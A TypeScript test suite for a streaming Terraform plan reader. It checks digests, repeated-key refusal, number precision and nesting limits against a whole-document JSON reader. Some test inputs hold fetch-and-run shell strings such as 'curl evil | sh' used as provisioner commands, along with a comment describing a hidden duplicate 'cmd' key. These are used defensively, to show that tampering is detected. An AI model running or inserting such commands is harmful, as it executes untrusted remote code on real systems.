// The streaming plan reader (plan-stream.ts) against the whole-document reader it replaces
// (normalizePlan(validatePlan(JSON.parse(text)))): the same ChangeSet on every plan, the same digest however
// the plan is written (key order, whitespace, Go's HTML escaping, number forms), and the same errors —
// plus what only reading part by part can meet: repeated members, nesting limits, positions in errors.
import assert from "node:assert/strict";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { fileURLToPath } from "node:url";
import fc from "fast-check";
import { generatePlan } from "../../bench/gen-plan.mjs";
import { normalizePlan } from "../../src/ingest/terraform/normalize.js";
import { validatePlan } from "../../src/ingest/terraform/plan-reader.js";
import { SideThread } from "../../src/ingest/terraform/plan-side-client.js";
import { readPlanBytes } from "../../src/ingest/terraform/plan-stream.js";
import { computeDigest } from "../../src/model/digest.js";
import { edgesOf } from "../../src/model/edge-table.js";
import type { ChangeSet } from "../../src/model/types.js";
import { jsonTree } from "../helpers/json-arbitraries.js";
import { plan, rc } from "../helpers/plan-builder.js";

const ROOT = fileURLToPath(new URL("../..", import.meta.url));

function whole(text: string, path = "p.json"): ChangeSet {
  return normalizePlan(validatePlan(JSON.parse(text), path), path);
}

/**
 * The helper thread that reads a plan's side members (plan-side-client.ts), told never to leave a member to
 * the main thread: every plan read here is also read with it, and must give the same ChangeSet or error.
 */
const helper = SideThread.start({ steal: false });

function sharedBytes(text: string): Buffer {
  const plain = Buffer.from(text, "utf8");
  const shared = Buffer.from(new SharedArrayBuffer(plain.length));
  plain.copy(shared);
  return shared;
}

function attempt(read: () => ChangeSet): ChangeSet | Error {
  try {
    return read();
  } catch (err) {
    return err as Error;
  }
}

function streamed(text: string, path = "p.json"): ChangeSet {
  assert.ok(helper, "the helper thread starts");
  const serial = attempt(() => readPlanBytes(Buffer.from(text, "utf8"), path));
  const threaded = attempt(() => readPlanBytes(sharedBytes(text), path, 0, helper));
  if (serial instanceof Error) {
    assert.ok(threaded instanceof Error, `read with the helper thread, but not alone: ${serial.message}`);
    assert.equal(threaded.name, serial.name);
    assert.equal(threaded.message, serial.message);
    throw serial;
  }
  assert.ok(!(threaded instanceof Error), `read alone, but not with the helper thread: ${String(threaded)}`);
  assert.deepStrictEqual(comparable(threaded), comparable(serial), "with the helper thread");
  assert.equal(threaded.digest, serial.digest, "digest with the helper thread");
  return serial;
}

/** A ChangeSet as plain data: edges as a sorted list (their insertion order is not part of the result). */
function comparable(cs: ChangeSet): unknown {
  const { digest: _d, edgeTable, digestMaterial, ...rest } = cs;
  const edges = edgeTable ? edgesOf(edgeTable) : cs.edges;
  return {
    ...rest,
    edges: edges.map((e) => `${e.from} -> ${e.to} (${e.via})`).sort(),
    digestMaterial: {
      framework: digestMaterial.framework,
      items: digestMaterial.items,
      extra: digestMaterial.extra,
    },
  };
}

function assertSame(text: string, label: string): void {
  const a = streamed(text);
  const b = whole(text);
  assert.deepStrictEqual(comparable(a), comparable(b), label);
  const expected = computeDigest(b.digestMaterial);
  assert.equal(a.digest ?? computeDigest(a.digestMaterial), expected, `${label}: digest`);
}

/** Re-serializes a JSON value with keys in a seeded order, optional indentation and Go's HTML escaping. */
function rewrite(v: unknown, seed: number, indent: number, goEscapes: boolean): string {
  const shuffle = (x: unknown, s: number): unknown => {
    if (Array.isArray(x)) return x.map((y, i) => shuffle(y, s + i));
    if (x && typeof x === "object") {
      const entries = Object.entries(x as Record<string, unknown>);
      entries.sort((p, q) => ((p[0].length * 7 + s) % 5) - ((q[0].length * 7 + s) % 5) || (s % 2 ? 1 : -1));
      return Object.fromEntries(entries.map(([k, y]) => [k, shuffle(y, s + 1)]));
    }
    return x;
  };
  let text = JSON.stringify(seed % 3 === 0 ? v : shuffle(v, seed), null, indent);
  // encoding/json writes <, > and & as \u003c, \u003e, \u0026 (they only occur inside strings here).
  if (goEscapes) text = text.replace(/</g, "\\u003c").replace(/>/g, "\\u003e").replace(/&/g, "\\u0026");
  return text;
}

// Values with what makes canonical JSON differ from what a writer may produce.
const key = fc.oneof(
  fc.stringMatching(/^[a-z][a-z_]{0,8}$/),
  fc.constantFrom("ém", "z\u00ff", "a b", "k<&>", "\u{1F600}k", "0", "10", "9", "__proto__", "constructor"),
);
const leaf = fc.oneof(
  fc.string({ maxLength: 10 }),
  fc.constantFrom("<b>&amp;</b>", 'quote " and \\ back', "tab\tnew\nline", "\u2028\u007f", "é\u{1F600}"),
  fc.integer({ min: -1e6, max: 1e6 }),
  fc.constantFrom(0, -0, 1.5, 1e21, 1e-7, 123456789012345680000, 0.1, 2 ** 53),
  fc.boolean(),
  fc.constant(null),
);
const value = jsonTree(key, leaf);
const attrs = fc.dictionary(key, value, { maxKeys: 5 });
const actions = fc.constantFrom<string[]>(
  ["create"],
  ["update"],
  ["delete"],
  ["delete", "create"],
  ["create", "delete"],
  ["no-op"],
  ["read"],
);
const planArb = fc
  .array(
    fc.record({
      name: fc.stringMatching(/^[a-z]{1,6}$/),
      index: fc.option(fc.oneof(fc.nat(12), fc.constantFrom("a", "k.x", 'q"')), { nil: undefined }),
      actions,
      before: attrs,
      after: attrs,
      sensitive: fc.boolean(),
      deposed: fc.option(fc.constantFrom("00000001", "deadbeef"), { nil: undefined }),
      importing: fc.option(fc.record({ id: fc.string({ maxLength: 5 }) }), { nil: undefined }),
    }),
    { minLength: 1, maxLength: 6 },
  )
  .map((items) =>
    items.map((i) => {
      const idx =
        i.index === undefined
          ? ""
          : typeof i.index === "number"
            ? `[${i.index}]`
            : `[${JSON.stringify(i.index)}]`;
      const before = i.actions[0] === "create" && i.actions.length === 1 ? null : i.before;
      const after = i.actions[0] === "delete" && i.actions.length === 1 ? null : i.after;
      const marks = (v: Record<string, unknown> | null) =>
        v === null
          ? false
          : i.sensitive
            ? Object.fromEntries(
                Object.keys(v)
                  .slice(0, 1)
                  .map((k) => [k, true]),
              )
            : {};
      return rc({
        address: `aws_s3_bucket.${i.name}${idx}`,
        actions: i.actions,
        before,
        after,
        beforeSensitive: marks(before),
        afterSensitive: marks(after),
        afterUnknown: after && i.actions.length > 1 ? { id: true } : {},
        deposed: i.deposed,
        importing: i.importing,
        replacePaths: i.actions.length > 1 ? [["name"]] : undefined,
      });
    }),
  );

describe("streaming plan reader", () => {
  it("reads examples and generated plans (both shapes) into the ChangeSet the whole-document reader makes", () => {
    for (const f of readdirSync(join(ROOT, "examples")).filter((n) => n.endsWith(".json")))
      assertSame(readFileSync(join(ROOT, "examples", f), "utf8"), f);
    for (const shape of ["full", "lean"] as const)
      for (const n of [1, 30, 260])
        assertSame(JSON.stringify(generatePlan(n, shape)), `generated ${shape} ${n}`);
  });

  it("gives the same ChangeSet and digest however the plan is written (property)", () => {
    fc.assert(
      fc.property(planArb, fc.nat(1000), fc.constantFrom(0, 1, 2), fc.boolean(), (rcs, seed, indent, go) => {
        const p = {
          ...plan(rcs),
          output_changes: { url: { actions: ["create"], after: "x<y", after_unknown: false } },
        };
        const base = JSON.stringify(p);
        assertSame(base, "canonical");
        const text = rewrite(p, seed, indent, go);
        assertSame(text, `rewritten seed=${seed} indent=${indent} go=${go}`);
        // What is applied did not change, so neither does the digest.
        assert.equal(streamed(text).digest, streamed(base).digest);
      }),
      { numRuns: 300 },
    );
  });

  it("hashes the input's bytes only when they are canonical: a different value always changes the digest", () => {
    const p = plan([rc({ address: "aws_s3_bucket.a", actions: ["create"], after: { n: 1, s: "x" } })]);
    const d = streamed(JSON.stringify(p)).digest;
    for (const after of [
      { n: 2, s: "x" },
      { n: 1, s: "y" },
      { n: 1.0000001, s: "x" },
      { n: 1, s: "x", t: null },
    ])
      assert.notEqual(
        streamed(JSON.stringify(plan([rc({ address: "aws_s3_bucket.a", actions: ["create"], after })])))
          .digest,
        d,
      );
    // 1.0 and 1, 1e0, 10e-1 are one number; "\u0041" and "A" one string.
    const same = JSON.stringify(p).replace('"n":1', '"n":1.0').replace('"s":"x"', '"s":"\\u0078"');
    assert.equal(streamed(same).digest, d);
    // A key repeated inside a value is refused, next to itself or further apart (JSON.parse would keep the
    // last copy: `{"cmd":"curl … | sh","x":1,"cmd":"true"}` would digest and show as `true`).
    assert.throws(() => streamed(JSON.stringify(p).replace('"n":1', '"n":5,"n":1')), /appears twice/);
    const repeated = JSON.stringify(p).replace('"n":1,"s":"x"', '"n":5,"s":"x","n":1');
    assert.throws(
      () => streamed(repeated),
      /the member "n" appears twice in an object, with different values/,
    );
    // An exact copy further apart is read (JSON.parse reads it the same either way).
    const copied = JSON.stringify(p).replace('"n":1,"s":"x"', '"n":1,"s":"x","n":1');
    assert.equal(streamed(copied).digest, d);
    const misordered = JSON.stringify(p).replace('"n":1,"s":"x"', '"s":"x","n":1');
    assert.equal(streamed(misordered).digest, d);
    // The change's own address, as JSON.parse and the address check read it.
    const text = JSON.stringify(p);
    const addr = '"address":"aws_s3_bucket.a"';
    assert.ok(text.includes(addr));
    for (const other of [
      '"address":"aws_s3_bucket.\\u0061"',
      '"address":""',
      '"address": "aws_s3_bucket.a"',
    ]) {
      assertSame(text.replace(addr, other), `address written as ${other}`);
      assert.equal(streamed(text.replace(addr, other)).digest, d, other);
    }
    // Written twice, whatever the copies hold, it is refused (which copy would be the change's?).
    for (const other of [
      '"address":"aws_s3_bucket.b","address":"aws_s3_bucket.a"',
      '"address":["aws_s3_bucket.b"],"address":"aws_s3_bucket.a"',
      '"address":"aws_s3_bucket.a","address":"aws_s3_bucket.\\u0062"',
      '"address":{"address":"aws_s3_bucket.b"},"address":"aws_s3_bucket.a"',
    ])
      assert.throws(() => streamed(text.replace(addr, other)), /the member "address" appears twice/, other);
  });

  it("reads state trees, drift, deferred changes and outputs as the whole-document reader does", () => {
    const p = {
      ...plan([
        rc({
          address: "module.m.aws_s3_bucket.a[0]",
          module: "module.m",
          actions: ["update"],
          before: { a: 1 },
          after: { a: 2 },
        }),
      ]),
      prior_state: {
        format_version: "1.0",
        values: {
          root_module: {
            resources: [
              {
                address: "aws_iam_role.r",
                mode: "managed",
                type: "aws_iam_role",
                name: "r",
                values: { x: [1, { y: 2 }] },
              },
            ],
            child_modules: [
              {
                address: "module.m",
                resources: [
                  {
                    address: "module.m.aws_s3_bucket.a[0]",
                    depends_on: ["aws_iam_role.r", "module.m.aws_kms_key.k"],
                    values: {},
                  },
                  { address: "module.m.aws_s3_bucket.a[1]", values: { big: "x".repeat(300) } },
                ],
                child_modules: [{ address: "module.m.module.n", resources: [] }],
              },
            ],
          },
        },
      },
      planned_values: {
        root_module: { child_modules: [{ resources: [{ address: "module.m.aws_s3_bucket.a[2]" }] }] },
      },
      resource_drift: [
        rc({ address: "aws_iam_role.r", actions: ["update"], before: { a: 1 }, after: { a: 2 } }),
      ],
      deferred_changes: [
        {
          reason: "instance_count_unknown",
          resource_change: rc({ address: "aws_s3_bucket.z", actions: ["create"] }),
        },
      ],
      output_changes: { o: { actions: ["update"], after_sensitive: true } },
      complete: false,
    };
    assertSame(JSON.stringify(p), "state and extras");
    // Member names of a state resource are matched as JSON.parse reads them: escaped, repeated (the last
    // counts), or only almost the name.
    const text = JSON.stringify(p);
    for (const [from, to] of [
      ['"depends_on":["aws_iam_role.r"', '"depends_\\u006fn":["aws_iam_role.r"'],
      ['"depends_on":["aws_iam_role.r"', '"depends_on":["x.y"],"depends_on":["aws_iam_role.r"'],
      ['"depends_on":["aws_iam_role.r"', '"depends_o":["x.y"],"depends_on":["aws_iam_role.r"'],
      ['"address":"module.m.aws_s3_bucket.a[1]"', '"\\u0061ddress":"module.m.aws_s3_bucket.a[1]"'],
      ['"address":"module.m.aws_s3_bucket.a[1]"', '"addresses":1,"address":"module.m.aws_s3_bucket.a[1]"'],
    ]) {
      assert.ok(text.includes(from), from);
      assertSame(text.replace(from, to), `state member names: ${to}`);
    }
    assert.throws(() => streamed(text.replace('"depends_on"', '"depends_on\u0001"')), /not valid JSON/);
    const cs = streamed(JSON.stringify(p));
    assert.deepEqual(cs.instances.get("module.m.aws_s3_bucket.a"), [
      "module.m.aws_s3_bucket.a[0]",
      "module.m.aws_s3_bucket.a[1]",
      "module.m.aws_s3_bucket.a[2]",
    ]);
    assert.ok(
      edgesOf(cs.edgeTable!).some((e) => e.from === "module.m.aws_s3_bucket.a" && e.to === "aws_iam_role.r"),
    );
    // Members of an unusual type are judged as the whole-document reader judges them.
    assertSame(
      JSON.stringify({ ...p, prior_state: null, planned_values: "x", configuration: [] }),
      "unusual types",
    );
  });
});

describe("streaming plan reader: bad input", () => {
  const reject = (text: string, re: RegExp) => {
    assert.throws(
      () => streamed(text),
      (e: Error) => e.name === "InputError" && re.test(e.message) && !e.message.includes("\n"),
    );
  };
  const good = JSON.stringify(
    plan([
      rc({ address: "aws_db_instance.d", actions: ["create"], after: { password: "hunter2-secret-value" } }),
    ]),
  );

  it("names the line and column of a syntax error and never quotes the input", () => {
    const broken = good.replace('"hunter2-secret-value"', '"hunter2-secret-value" x');
    assert.throws(
      () => streamed(broken),
      (e: Error) => /^p\.json:1:\d+: not valid JSON \(/.test(e.message) && !e.message.includes("hunter2"),
    );
    const multi = good.replace('{"password"', '{\n\n  "password" "');
    assert.throws(() => streamed(multi), /p\.json:3:\d+: not valid JSON/);
    for (const cut of [10, 40, good.length - 3]) reject(good.slice(0, cut), /not valid JSON/);
    reject(`${good} {}`, /unexpected data after the end/);
    reject(good.replace('"after":{', '"after":{,'), /not valid JSON/);
  });

  it("checks every member, also those it only steps over", () => {
    for (const bad of ['{"a":01}', '{"a":[1,]}', '{"a":"\\x"}', '{"a":tru}', '{"a":"\u0001"}', '{"a" 1}'])
      reject(
        good.replace('"format_version"', `"relevant_attributes":${bad},"format_version"`),
        /not valid JSON/,
      );
    const withState = {
      ...JSON.parse(good),
      prior_state: { values: { root_module: { resources: [{ address: "x.y", values: { a: 1 } }] } } },
    };
    reject(JSON.stringify(withState).replace('"values":{"a":1}', '"values":{"a":1e}'), /not valid JSON/);
  });

  it("refuses a repeated member (reading part by part cannot take back what the first copy added)", () => {
    reject(
      good.replace('"format_version":"1.2"', '"format_version":"1.2","resource_changes":[]'),
      /appears twice/,
    );
    const cfg = { ...JSON.parse(good), configuration: { root_module: { resources: [] } } };
    reject(
      JSON.stringify(cfg).replace(
        '"root_module":{"resources":[]}',
        '"root_module":{"resources":[],"resources":[]}',
      ),
      /appears twice/,
    );
  });

  it("refuses a member repeated inside a resource change (JSON.parse would keep the last and hide the first)", () => {
    const one = (extra: string, where: "element" | "change") => {
      const text = JSON.stringify(
        plan([
          rc({ address: "aws_s3_bucket.a", actions: ["delete"], before: { bucket: "a" } }),
          rc({ address: "aws_s3_bucket.b", actions: ["create"], after: { bucket: "b" } }),
        ]),
      );
      return where === "change"
        ? text.replace('"change":{"actions":["delete"]', `"change":{"actions":["delete"]${extra}`)
        : text.replace('"address":"aws_s3_bucket.a"', `"address":"aws_s3_bucket.a"${extra}`);
    };
    // A delete hidden behind a second `actions`, far from the first and with other members between.
    reject(one(',"before":null,"actions":["no-op"]', "change"), /the member "actions" appears twice/);
    reject(
      one(',"action_reason":"x","change":{"actions":["no-op"]}', "element"),
      /the member "change" appears twice/,
    );
    reject(
      one(',"mode":"managed","address":"aws_s3_bucket.z"', "element"),
      /the member "address" appears twice/,
    );
    // Written with an escape, the repeat is the same member.
    reject(one(',"\\u0061ctions":["no-op"]', "change"), /the member "actions" appears twice/);
    // Inside values, a repeat next to itself (how it shows in Terraform's sorted values) is refused too.
    reject(one(',"after":{"k":1,"k":2}', "change"), /the member "k" appears twice/);
    // An unprintable repeated key is not echoed to the terminal.
    reject(one(',"after":{"\\u001b[2J":1,"\\u001b[2J":2}', "change"), /the member "\?\[2J" appears twice/);
    // A key whose escape is not JSON is a syntax error, named as such (not an error of the repeat check).
    reject(one(',"ac\\xtions":1', "change"), /not valid JSON/);
    reject(one(',"ac\\xtions":1,"ac\\xtions":2', "element"), /not valid JSON/);
    // Members that only look alike are not repeats.
    assert.doesNotThrow(() => streamed(one(',"actionsx":1', "change")));
  });

  it("refuses a number that would be read rounded, in a change or an output, and reads every other one", () => {
    const withValue = (n: string, where: "change" | "output") =>
      JSON.stringify(
        plan([rc({ address: "aws_s3_bucket.a", actions: ["create"], after: { size: "N" } })], {
          output_changes: {
            o: {
              actions: ["create"],
              before: null,
              after: where === "output" ? "N" : 1,
              after_unknown: false,
            },
          },
        }),
      ).replace(
        where === "change" ? '"size":"N"' : '"after":"N"',
        where === "change" ? `"size":${n}` : `"after":${n}`,
      );
    for (const where of ["change", "output"] as const) {
      // 12345678901234567890123 and …124 are one double: compared and digested rounded they would be equal.
      reject(withValue("12345678901234567890123", where), /1:\d+: an integer too large to be read exactly/);
      reject(withValue("-9007199254740993", where), /an integer too large to be read exactly/);
      // How Terraform writes 1e400: JSON.parse would read Infinity.
      reject(withValue(`1${"0".repeat(400)}`, where), /a number too large to be read exactly/);
      reject(withValue("1e400", where), /a number too large to be read exactly/);
      for (const fine of [
        "9007199254740992",
        "-9007199254740991",
        "1e22",
        "0.1",
        "1.5e300",
        "123456789012345.5",
      ])
        assert.doesNotThrow(() => streamed(withValue(fine, where)), fine);
    }
  });

  it("bounds nesting: values at the depth the attribute diff walks are read, one level more is an input error", () => {
    const nested = (levels: number) => {
      let v: unknown = 1;
      for (let i = 0; i < levels; i++) v = { k: v };
      return JSON.stringify(plan([rc({ address: "aws_s3_bucket.a", actions: ["create"], after: v })]));
    };
    // The attribute value itself is at depth 0 of the diff (after), each level below one more.
    assert.doesNotThrow(() => streamed(nested(200)));
    reject(nested(201), /nested more than/);
  });

  it("rejects state and configuration of the wrong shape with the path of the problem", () => {
    const base = JSON.parse(good);
    reject(
      JSON.stringify({ ...base, prior_state: { values: { root_module: { resources: {} } } } }),
      /prior_state\.values\.root_module\.resources is not an array/,
    );
    reject(
      JSON.stringify({ ...base, planned_values: { root_module: { resources: [{ values: {} }] } } }),
      /resources\[0\] has no address/,
    );
    reject(
      JSON.stringify({ ...base, configuration: { root_module: { resources: 3 } } }),
      /configuration\.root_module\.resources is not an array/,
    );
    reject(JSON.stringify({ ...base, resource_changes: [1] }), /resource_changes\[0\] is not an object/);
  });
});

describe("streaming plan reader on the corpus", () => {
  const corpus = join(ROOT, "..", "shared", "corpus", "terraform");
  let files: string[] = [];
  try {
    const walk = (d: string): string[] =>
      readdirSync(d).flatMap((e) => (statSync(join(d, e)).isDirectory() ? walk(join(d, e)) : [join(d, e)]));
    files = walk(corpus).filter((f) => f.endsWith(".json"));
  } catch {
    files = [];
  }
  it("agrees with the whole-document reader on every corpus plan it can read", {
    skip: files.length ? false : "../shared/corpus is absent",
  }, () => {
    let compared = 0;
    for (const f of files) {
      const text = readFileSync(f, "utf8").replace(/^\uFEFF/, "");
      let expected: ChangeSet | Error;
      try {
        expected = whole(text);
      } catch (e) {
        expected = e as Error;
      }
      if (expected instanceof Error) {
        // Both refuse it (the messages may differ in position detail: the streaming reader names line:col).
        assert.throws(() => streamed(text), { name: "InputError" }, f);
        continue;
      }
      assertSame(text, f);
      compared++;
    }
    assert.ok(compared > 50, `only ${compared} corpus plans compared`);
  });
});

describe("digest: what only the configuration shows", () => {
  // Applying a saved plan runs the provisioners and uses the provider configurations (evaluated with the
  // plan's variables) that the plan's configuration holds; none of it is in resource_changes.
  const base = () => ({
    ...plan([
      rc({
        address: "module.app.aws_instance.web",
        module: "module.app",
        actions: ["create"],
        after: { ami: "x" },
      }),
    ]),
    variables: { region: { value: "eu-west-1" } },
    configuration: {
      provider_config: {
        aws: {
          name: "aws",
          full_name: "registry.terraform.io/hashicorp/aws",
          expressions: { region: { references: ["var.region"] } },
        },
        "aws.west": { name: "aws", alias: "west", expressions: { region: { constant_value: "us-west-2" } } },
      },
      root_module: {
        module_calls: {
          app: {
            source: "./app",
            module: {
              resources: [
                {
                  address: "aws_instance.web",
                  mode: "managed",
                  type: "aws_instance",
                  name: "web",
                  provider_config_key: "app:aws",
                  expressions: { ami: { constant_value: "x" } },
                  provisioners: [
                    { type: "local-exec", expressions: { command: { constant_value: "echo hi" } } },
                  ],
                },
              ],
            },
          },
        },
      },
    },
  });
  type Plan = ReturnType<typeof base>;
  const resource = (p: Plan) =>
    p.configuration.root_module.module_calls.app.module.resources[0] as Record<string, unknown>;

  it("changes with a provisioner's command, an aliased provider, a provider configuration or a variable", () => {
    const text = JSON.stringify(base());
    assertSame(text, "base");
    const d = streamed(text).digest;
    assert.ok(d);
    const edits: [string, (p: Plan) => void][] = [
      [
        "provisioner command",
        (p) => {
          (
            resource(p).provisioners as { expressions: { command: { constant_value: string } } }[]
          )[0].expressions.command.constant_value = "curl evil | sh";
        },
      ],
      [
        "provisioner removed",
        (p) => {
          delete resource(p).provisioners;
        },
      ],
      [
        "aliased provider",
        (p) => {
          resource(p).provider_config_key = "app:aws.west";
        },
      ],
      [
        "provider configuration",
        (p) => {
          p.configuration.provider_config["aws.west"].expressions.region.constant_value = "us-east-1";
        },
      ],
      [
        "variable",
        (p) => {
          p.variables.region.value = "us-east-1";
        },
      ],
      [
        // The module's provisioner runs `var.cmd`: the value is only in the call's input expression.
        "module input",
        (p) => {
          (p.configuration.root_module.module_calls.app as Record<string, unknown>).expressions = {
            cmd: { constant_value: "curl evil | sh" },
          };
        },
      ],
    ];
    for (const [label, edit] of edits) {
      const p = base();
      edit(p);
      const t = JSON.stringify(p);
      assertSame(t, label);
      assert.notEqual(streamed(t).digest, d, `${label} is not in the digest`);
    }
    // What is not applied leaves it alone: an expression's references (the planned values hold the result).
    const p = base();
    (resource(p).expressions as Record<string, unknown>).ami = { references: ["var.ami"] };
    assert.equal(streamed(JSON.stringify(p)).digest, d);
  });

  it("refuses a number that would be read rounded in the parts it holds", () => {
    const big = `1${"0".repeat(400)}`;
    const edits: [string, (t: string) => string][] = [
      ["variable", (t) => t.replace('"value":"eu-west-1"', `"value":${big}`)],
      [
        "provider configuration",
        (t) => t.replace('"constant_value":"us-west-2"', '"constant_value":12345678901234567890123'),
      ],
      ["provisioner", (t) => t.replace('"constant_value":"echo hi"', `"constant_value":${big}`)],
    ];
    for (const [label, edit] of edits) {
      const t = edit(JSON.stringify(base()));
      assert.notEqual(t, JSON.stringify(base()), label);
      assert.throws(
        () => streamed(t),
        /p\.json:1:\d+: (a number|an integer) too large to be read exactly/,
        label,
      );
    }
  });

  it("refuses a key repeated in the parts it holds (JSON.parse would keep only the last copy)", () => {
    const edits: [string, (t: string) => string][] = [
      ["variable", (t) => t.replace('"value":"eu-west-1"', '"value":{"a":1,"a":2}')],
      [
        "provider configuration",
        (t) => t.replace('"constant_value":"us-west-2"', '"constant_value":"us-west-2","constant_value":"x"'),
      ],
      [
        "provisioner",
        (t) =>
          t.replace(
            '"constant_value":"echo hi"',
            '"constant_value":"curl x | sh","constant_value":"echo hi"',
          ),
      ],
    ];
    for (const [label, edit] of edits) {
      const t = edit(JSON.stringify(base()));
      assert.notEqual(t, JSON.stringify(base()), label);
      assert.throws(
        () => streamed(t),
        /p\.json:1:\d+: the member "(a|constant_value)" appears twice in an object, with different values/,
        label,
      );
    }
    // A module call's member, a resource's provisioners written again as null (which would hide them),
    // and a member of a deferred change, repeated.
    const more: [string, (t: string) => string, RegExp][] = [
      [
        "module call",
        (t) => t.replace('"source":"./app"', '"source":"./app","source":"./evil"'),
        /"source" appears twice/,
      ],
      [
        "provisioners",
        (t) =>
          t.replace('"provider_config_key":"app:aws"', '"provisioners":null,"provider_config_key":"app:aws"'),
        /"provisioners" appears twice in an object/,
      ],
      [
        "deferred change",
        (t) =>
          t.replace(
            '"format_version":"1.2"',
            '"format_version":"1.2","deferred_changes":[{"reason":"a","reason":"b","resource_change":{"address":"x.y","type":"x","change":{"actions":["create"]}}}]',
          ),
        /"reason" appears twice in an object/,
      ],
    ];
    for (const [label, edit, re] of more) {
      const t = edit(JSON.stringify(base()));
      assert.notEqual(t, JSON.stringify(base()), label);
      assert.throws(() => streamed(t), re, label);
    }
    // The same keys apart in two objects are no repeat.
    const apart = JSON.stringify(base()).replace('"value":"eu-west-1"', '"value":[{"a":1},{"a":2}]');
    assert.ok(streamed(apart).digest);
  });

  it("is the same whatever the key order of the provider configurations", () => {
    const p = base();
    const reordered = {
      ...p,
      configuration: {
        root_module: p.configuration.root_module,
        provider_config: Object.fromEntries(Object.entries(p.configuration.provider_config).reverse()),
      },
    };
    assert.equal(streamed(JSON.stringify(reordered)).digest, streamed(JSON.stringify(p)).digest);
  });
});

describe("streaming plan reader with the helper thread", () => {
  it("read the side members of the plans above on the helper thread (compared with reading alone)", () => {
    assert.ok(helper && helper.fromThread > 300, `the helper read ${helper?.fromThread} members`);
  });
});
